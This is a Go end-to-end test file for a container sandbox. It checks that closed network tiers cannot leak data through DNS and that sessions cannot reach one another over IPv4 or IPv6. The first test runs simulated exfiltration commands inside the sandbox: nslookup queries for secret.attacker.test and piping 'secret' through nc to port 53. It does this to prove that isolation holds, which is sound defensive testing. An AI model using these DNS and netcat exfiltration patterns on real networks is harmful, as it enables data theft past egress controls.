package e2e_test

import (
	"fmt"
	"os"
	"strconv"
	"strings"
	"testing"

	"github.com/docker/docker/api/types/container"
	"github.com/docker/docker/api/types/filters"
)

// A closed tier asks nobody, whichever resolver the engine's host has: one of its own on
// loopback, which the engine itself would ask for a container, or another host.
func TestAttackT31_BugNW01_NoLookUpLeavesAClosedTier(t *testing.T) {
	t.Parallel()
	e := privateEngine(t, "tiers-dns")
	w := surround(t, e)
	w.resolve(w.engine, "127.0.0.1")
	_, a := e.serve(t)
	file := e.resolvConf()
	for _, resolver := range []string{w.resolver, "127.0.0.1"} {
		if err := os.WriteFile(file, []byte("nameserver "+resolver+"\noptions timeout:1 attempts:1\n"), 0o644); err != nil {
			t.Fatal(err)
		}
		w.forget()
		egress := a.session(args{"network": "egress"})
		a.exec(egress, "nslookup control.attacker.test")
		if len(w.lookups(resolver+" control")) == 0 {
			t.Errorf("resolver %s: the control: egress does not reach it either", resolver)
		}
		for _, tier := range []string{"internal", "none"} {
			s := a.session(args{"network": tier})
			x := a.exec(s, `for ask in "" 127.0.0.11 `+w.resolver+` 127.0.0.1; do
				timeout 3 nslookup secret.attacker.test $ask &
				timeout 3 nslookup -type=txt secret.attacker.test $ask &
			done
			for server in 127.0.0.11 `+w.resolver+`; do echo secret | nc -w 2 $server 53 & done
			wait`)
			if !x.exited(0) {
				t.Errorf("%s: %v", tier, x)
			}
		}
		if asked, reached := w.lookups("secret"), w.reached(); len(asked) != 0 || len(reached) != 0 {
			t.Errorf("resolver %s: asked for %v, reached %v", resolver, asked, reached)
		}
	}
}

// box is a session's place on the engine's host: its network namespace, and its addresses.
func (e *ownEngine) box(t *testing.T, session string) (ns string, addresses []string) {
	t.Helper()
	found, err := e.api.ContainerList(t.Context(), container.ListOptions{Filters: filters.NewArgs(filters.Arg("label", "caisson.id="+session))})
	if err != nil || len(found) != 1 {
		t.Fatalf("%d containers of %s: %v", len(found), session, err)
	}
	c, err := e.api.ContainerInspect(t.Context(), found[0].ID)
	if err != nil {
		t.Fatal(err)
	}
	for _, n := range c.NetworkSettings.Networks {
		addresses = append(addresses, n.IPAddress)
		if n.GlobalIPv6Address != "" {
			addresses = append(addresses, "["+n.GlobalIPv6Address+"]")
		}
	}
	return fmt.Sprintf("/proc/%d/ns/net", c.State.Pid), addresses
}

// Not one packet of a session comes to another of its tier, whoever owns them: by the
// engine's own isolation, and over IPv6, which an old engine does not isolate, by the
// deployment's firewall.
func TestAttackT33_AttackT25_D22_SessionsDoNotReachOneAnother(t *testing.T) {
	t.Parallel()
	e := privateEngine(t, "tiers-apart")
	e.doubleStack(t)
	w := surround(t, e)
	_, a := e.serve(t)
	for _, tier := range []string{"internal", "egress"} {
		from, to := a.dialing(tier), a.session(args{"network": tier})
		ns, addresses := e.box(t, to)
		for _, tool := range []string{"iptables", "ip6tables"} {
			w.in(ns, tool+" -w -t raw -A PREROUTING -i lo -j ACCEPT")
			for _, kind := range []string{"neighbour-solicitation", "neighbour-advertisement"} {
				if tool == "ip6tables" { // the host's own look for it is none of another session's packets
					w.in(ns, tool+" -w -t raw -A PREROUTING -s 2001:db8:5e55::1 -p icmpv6 --icmpv6-type "+kind+" -j ACCEPT")
				}
			}
			w.in(ns, tool+" -w -t raw -A PREROUTING -m comment --comment arrived")
		}
		targets := []string{"udp://255.255.255.255:67", "udp://224.0.0.251:5353", "udp://[ff02::fb%eth0]:5353", "udp://[ff02::1%eth0]:9"}
		for _, address := range addresses {
			for _, port := range []int{22, 53, 80, 8080} {
				targets = append(targets, "tcp://"+address+":"+strconv.Itoa(port), "udp://"+address+":"+strconv.Itoa(port))
			}
			if !strings.HasPrefix(address, "[") {
				targets = append(targets, "udp://"+address[:strings.LastIndex(address, ".")]+".255:137")
			}
		}
		for _, form := range append([]string{""}, firewallForms...) {
			if form == "" && tier == "egress" {
				continue // IPv6, see above
			}
			if form != "" {
				e.firewall(t, "load", "FORM="+form)
			}
			for _, tool := range []string{"iptables", "ip6tables"} {
				w.in(ns, tool+" -w -t raw -Z PREROUTING")
			}
			same(t, tier+" "+form, a.dial(from, targets...), nil)
			if n := counted(t, ns, "arrived"); n != 0 {
				t.Errorf("%s, firewall %q: %d packets arrived", tier, form, n)
			}
			if form != "" {
				e.firewall(t, "remove", "FORM="+form)
			}
		}
		// The host may have no address of its own there.
		w.in(w.engine, "ip route replace "+addresses[0]+" dev "+map[string]string{"internal": "tai-sbx-int", "egress": "tai-sbx-egress"}[tier])
		out(t, "nsenter", "--net="+w.engine, "bash", "-c", "echo x >/dev/udp/"+addresses[0]+"/9")
		if counted(t, ns, "arrived") == 0 {
			t.Errorf("%s: the control: a packet of the host's is not counted", tier)
		}
	}
}
